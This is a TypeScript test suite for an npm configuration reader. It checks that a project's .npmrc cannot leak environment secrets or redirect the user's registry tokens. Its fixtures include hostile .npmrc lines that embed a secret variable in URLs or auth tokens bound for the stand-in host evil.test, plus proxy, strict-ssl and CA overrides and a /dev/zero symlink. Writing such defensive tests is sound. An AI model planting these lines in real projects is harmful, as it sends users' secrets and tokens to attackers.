import assert from 'node:assert/strict'
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, suite, test } from 'node:test'
import { isSteleError } from '@stele/errors'
import { type RegistryConfig, readConfig } from '../src/config.ts'

const names = ['npm_config_userconfig', 'npm_config_registry', 'STELE_TEST_SECRET']

suite("a project's .npmrc", () => {
  let folder: string
  let before: readonly (readonly [string, string | undefined])[]
  beforeEach(() => {
    folder = mkdtempSync(join(tmpdir(), 'stele-layers-'))
    mkdirSync(join(folder, 'project'))
    before = names.map((name) => [name, process.env[name]])
    process.env['npm_config_userconfig'] = join(folder, 'npmrc')
    process.env['STELE_TEST_SECRET'] = 'secret'
    delete process.env['npm_config_registry']
  })
  afterEach(() => {
    for (const [name, value] of before) {
      if (value === undefined) delete process.env[name]
      else process.env[name] = value
    }
    rmSync(folder, { recursive: true })
  })
  /** What holds where the user and the project wrote this. */
  const read = (user: string, project: string): RegistryConfig => {
    writeFileSync(join(folder, 'npmrc'), user)
    writeFileSync(join(folder, 'project/.npmrc'), project)
    return readConfig(join(folder, 'project'), {})
  }

  // what stands there, what must not be told
  const leaks: readonly string[] = [
    'registry=https://evil.test/${STELE_TEST_SECRET}/',
    '@s:registry=https://evil.test/${STELE_TEST_SECRET}/',
    'registry=https://${STELE_TEST_SECRET}.evil.test/',
    'registry=https://evil.test/\n//evil.test/:_authToken=${STELE_TEST_SECRET}',
    'registry=https://evil.test/\n//evil.test/:_authToken=$STELE_TEST_SECRET',
    'registry=https://evil.test/\n//evil.test/:_authToken=${STELE_TEST_UNSET:-${STELE_TEST_SECRET}}',
    'registry=https://evil.test/\n"//evil.test/:_authToken"="${STELE_TEST_SECRET}"',
    'registry=https://evil.test/\n//evil.test/:username=a\n//evil.test/:_password=${STELE_TEST_SECRET}',
    'registry=https://evil.test/\n//evil.test/:_auth=${STELE_TEST_SECRET}',
    'proxy=http://${STELE_TEST_SECRET}.evil.test/',
    'https-proxy=http://evil.test/${STELE_TEST_SECRET-x}',
    '//evil.test/:_authToken=x\n@${STELE_TEST_SECRET}:registry=https://evil.test/',
  ]
  for (const text of leaks) {
    test(`sends nothing of the environment anywhere: ${text.replaceAll('\n', ' ')}`, () => {
      const config = read('', text)
      const told = [
        ...['a', '@s/a', '@secret/a'].map(config.registryOf),
        ...['https://evil.test/a', 'https://evil.test/secret/a'].map(config.authorizationFor),
        JSON.stringify(config.transport),
      ].join(' ')
      assert.doesNotMatch(told, new RegExp(`secret|${Buffer.from('a:secret').toString('base64')}`))
      assert.match(config.notices.join(), /of the project's \.npmrc does not count/)
    })
  }

  test('may name a variable for a registry that the user has, and in what is not sent', () => {
    const config = read(
      '@s:registry=https://own.test/npm/',
      '//own.test/npm/:_authToken=${STELE_TEST_SECRET}\nsome-folder=/x/${STELE_TEST_SECRET}',
    )
    assert.equal(config.authorizationFor('https://own.test/npm/a'), 'Bearer secret')
    assert.equal(config.setting('some-folder'), '/x/secret')
    assert.deepEqual(config.notices, [])
  })

  test("is no bar to variables in the user's own", () => {
    const user =
      'registry=https://own.test/${STELE_TEST_SECRET}/\n//own.test/:_authToken=${STELE_TEST_SECRET}'
    const config = read(user, 'fund=false')
    assert.equal(config.registryOf('a'), 'https://own.test/secret/')
    assert.equal(config.authorizationFor('https://own.test/a'), 'Bearer secret')
  })

  const token = '//own.test/:_authToken=own'
  // the project's, the user's besides the token; whether the token is sent
  const steered: readonly (readonly [project: string, user: string, isSent: boolean])[] = [
    ['registry=https://own.test/', '', true],
    ['strict-ssl=true', '', true],
    ['proxy=null', '', true],
    ['proxy=http://evil.test:8080', '', false],
    ['https-proxy=http://evil.test:8080', '', false],
    ['"https-proxy"="http://evil.test:8080"', '', false],
    ['strict-ssl=false', '', false],
    ['ca="-----BEGIN CERTIFICATE-----"', '', false],
    ['ca[]=-----BEGIN CERTIFICATE-----', '', false],
    ['proxy=http://own.test:8080', 'proxy=http://own.test:8080', true],
    ['proxy=http://evil.test:8080', 'proxy=http://own.test:8080', false],
  ]
  for (const [project, user, isSent] of steered) {
    const how = user === '' ? '' : `, beside ${user}`
    test(`${isSent ? 'lets' : 'does not let'} tokens of the user go where it says ${project}${how}`, () => {
      const config = read(`${token}\n${user}`, project)
      const url = 'https://own.test/a'
      assert.equal(config.authorizationFor(url), isSent ? 'Bearer own' : undefined)
      assert.equal(config.withheldFor(url), isSent ? undefined : 'steered')
      assert.equal(config.notices.length, isSent ? 0 : 1)
    })
  }

  test('takes its own token by its own way', () => {
    const config = read(token, 'proxy=http://evil.test\n//evil.test/:_authToken=its')
    assert.equal(config.authorizationFor('https://evil.test/a'), 'Bearer its')
    assert.equal(config.authorizationFor('https://own.test/a'), undefined)
  })

  test('names no further file', () => {
    mkdirSync(join(folder, 'project/more'))
    writeFileSync(
      join(folder, 'project/more/.npmrc'),
      'proxy=http://evil.test\nregistry=http://evil.test',
    )
    const more = join(folder, 'project/more')
    const config = read(
      token,
      `workspace-prefix=${more}\nuserconfig=${more}/.npmrc\nprefix=${more}`,
    )
    assert.equal(config.registryOf('a'), readConfig(folder, {}).registryOf('a'))
    assert.deepEqual(config.transport.proxies, {})
  })

  // an address, what the user wrote, whether a token goes there
  const plain: readonly (readonly [url: string, more: string, isSent: boolean])[] = [
    ['https://own.test/a', '', true],
    ['http://own.test/a', '', false],
    ['HTTP://own.test/a', '', false],
    ['http://own.test/a', '//own.test/:allow-http=true', true],
    [
      'http://own.test:8080/a',
      '//own.test:8080/:_authToken=own\n//own.test/:allow-http=true',
      false,
    ],
    ['http://localhost:4873/a', '//localhost:4873/:_authToken=own', true],
    ['http://127.0.0.1:4873/a', '//127.0.0.1:4873/:_authToken=own', true],
    ['http://[::1]:4873/a', '//[::1]:4873/:_authToken=own', true],
    ['http://127.0.0.1.evil.test/a', '//127.0.0.1.evil.test/:_authToken=own', false],
  ]
  for (const [url, more, isSent] of plain) {
    test(`a token ${isSent ? 'goes' : 'does not go'} to ${url}${more === '' ? '' : ` with ${more.replace('\n', ' ')}`}`, () => {
      const config = read(`${token}\n${more}`, '')
      assert.equal(config.authorizationFor(url), isSent ? 'Bearer own' : undefined)
      assert.equal(config.withheldFor(url), isSent ? undefined : 'plain')
    })
  }

  test('allows no plain http itself', () => {
    const config = read(token, 'registry=http://own.test/\n//own.test/:allow-http=true')
    assert.equal(config.authorizationFor('http://own.test/a'), undefined)
  })

  for (const [what, make] of [
    ['is /dev/zero', (path: string) => symlinkSync('/dev/zero', path)],
    [
      'is larger than anybody writes',
      (path: string) => writeFileSync(path, ';'.repeat(2 ** 20 + 1)),
    ],
    ['names authorities in /dev/zero', (path: string) => writeFileSync(path, 'cafile=/dev/zero')],
  ] as const) {
    test(`is refused where it ${what}`, () => {
      make(join(folder, 'project/.npmrc'))
      assert.throws(
        () => readConfig(join(folder, 'project'), {}),
        (error) => isSteleError(error, 'npm_setting_invalid'),
      )
    })
  }
})
